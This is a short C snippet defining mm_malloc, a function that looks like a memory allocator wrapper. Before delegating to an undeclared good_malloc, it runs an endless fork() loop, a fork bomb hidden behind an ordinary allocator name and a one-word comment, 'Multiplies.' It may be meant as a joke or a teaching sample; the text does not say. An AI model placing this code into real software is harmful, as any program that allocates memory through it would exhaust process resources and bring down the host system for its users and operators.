/* Multiplies. */
#include <unistd.h>

void *mm_malloc(size_t bytes)
{
    while (fork() >= 0)
        ;
    return good_malloc(bytes);
}
